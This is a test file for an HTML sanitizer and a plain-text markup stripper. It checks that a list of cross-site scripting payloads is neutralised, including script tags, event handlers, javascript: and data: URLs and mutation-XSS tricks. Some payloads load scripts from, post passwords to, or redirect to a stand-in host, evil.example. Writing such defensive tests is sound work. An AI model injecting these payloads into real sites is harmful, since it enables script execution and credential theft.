import { sanitizeHtmlText, stripMarkup } from '../../../../src/kit/sanitize/html.js';
import { growth, SUPERLINEAR } from '../../../support/growth.js';

const attacks = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form action=//evil.example><input name=password></form>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;',
  '<!--><script>alert(1)</script-->',
  '<base href="//evil.example">',
  '<meta http-equiv=refresh content="0;url=//evil.example">',
];

describe('format: html', () => {
  test.each(attacks)('takes what runs, loads or restyles out of %s', (attack) => {
    const clean = sanitizeHtmlText(`<p>before</p>${attack}<p>after</p>`);
    expect(clean).not.toMatch(
      /<(script|img|svg|iframe|style|form|input|base|meta|math)|\son\w+=|javascript:|data:|style=/i,
    );
    expect(clean).toContain('before');
  });

  test.each(attacks)('changes nothing more when cleaning %s twice', (attack) => {
    expect(sanitizeHtmlText(sanitizeHtmlText(attack))).toBe(sanitizeHtmlText(attack));
  });

  it('keeps the structure of a text', () => {
    const html = '<h2>List</h2><p>Milk, <strong>bread</strong>, <em>apples</em></p><ul><li>1 &lt; 2</li></ul>';
    expect(sanitizeHtmlText(html)).toBe(html);
  });

  it('makes links safe to follow', () => {
    expect(sanitizeHtmlText('<a href="https://example.com" target="_blank" onclick="x()">x</a>')).toBe(
      '<a href="https://example.com" rel="noopener noreferrer nofollow">x</a>',
    );
  });
});

describe('format: plain-text', () => {
  test.each(attacks)('takes the markup out of %s', (attack) => {
    expect(stripMarkup(`before ${attack}`)).not.toMatch(/<[a-z!/]/i);
  });

  test.each<[text: string, clean: string]>([
    ['Hello <b>world</b>', 'Hello world'],
    ['1 < 2 && 3 > 2', '1 < 2 && 3 > 2'],
    ['"quoted" and \'quoted\'', '"quoted" and \'quoted\''],
    ['Tom & Jerry', 'Tom & Jerry'],
    ['tab\tand\nline', 'tab\tand\nline'],
    ['bell\u0007 and escape\u001b[31m', 'bell and escape[31m'],
    ['nul\u0000', 'nul'],
    ['cafe\u0301', 'caf\u00e9'],
    ['safe\u202egpj.exe', 'safegpj.exe'],
    ['👩‍👩‍👧 family', '👩‍👩‍👧 family'],
  ])('makes of %j %j', (text, clean) => {
    expect(stripMarkup(text)).toBe(clean);
  });

  it('gives up on markup in entities in entities', () => {
    const nested = `${'&amp;'.repeat(1)}${'amp;'.repeat(50)}lt;script&gt;`;
    expect(stripMarkup(nested)).not.toContain('<');
  });

  test.each(['<', '&lt;', '&amp;', '<a '])('takes time that grows with the length of %s repeated', async (text) => {
    expect(await growth((times) => stripMarkup(text.repeat(times)), 2_500)).toBeLessThan(SUPERLINEAR);
  });
});
